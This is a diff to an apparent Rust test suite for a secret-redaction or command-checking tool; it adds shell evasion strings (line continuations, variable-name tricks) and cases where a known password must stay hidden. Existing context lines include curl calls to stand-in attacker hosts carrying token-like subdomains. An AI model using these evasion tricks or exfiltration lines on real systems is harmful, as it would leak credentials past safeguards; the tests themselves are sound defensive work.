@@ -53,6 +53,9 @@ const TRICKS: &[&str] = &[
     "$(§gh)", "`§npm`", "(§sk x)", "bash §gh", "source §gh", ". §gh", "echo x > §gh", "cat < §sk",
     "env §gh", "sh -c '§gh x'", "sh -c \"§gh\"", "find . -exec §gh {} +", "xargs §gh", "{ §gh; }",
     "./§gh x", "/tmp/§gh x", "ssh host '§gh x'", "{§gh,x}",
+    "echo > x-\\\nTOKEN=§gh y", "echo > TOKEN=§gh y", "echo >\\\nTOKEN=§gh y", "echo > \\\n\\\n TOKEN=§gh y",
+    // the name of a variable
+    "echo $§gh", "echo a$X§npm", "export §gh=a", "export §gh\\\n=a",
     // hosts and paths
     concat!("curl sk", "-evil.attacker1.com/x"), concat!("curl https://eyJaaaaaaaaaaaa", ".evil123.example.com/x"),
     "mysql --password=/tmp/evil.sh", "psql --token ./evil1", "x --password=evil.sh", "curl https://u:p@evil.com:80@h/x",
@@ -142,6 +145,8 @@ fn a_known_value_is_never_shown() {
         "curl -d '{\"a\": \"pass$(word) \\\"x\\\"\"}'",
         "PASSWORD=\"a$(login correct-horse/battery)\"; $(correct-horse/battery)",
         "login correct-\u{200b}horse/battery",
+        "login $correct-horse/battery",
+        "login a$Xcorrect-horse/battery",
         "login abcdefghi | $(abcdefghi)",
     ] {
         let shown = show(text);
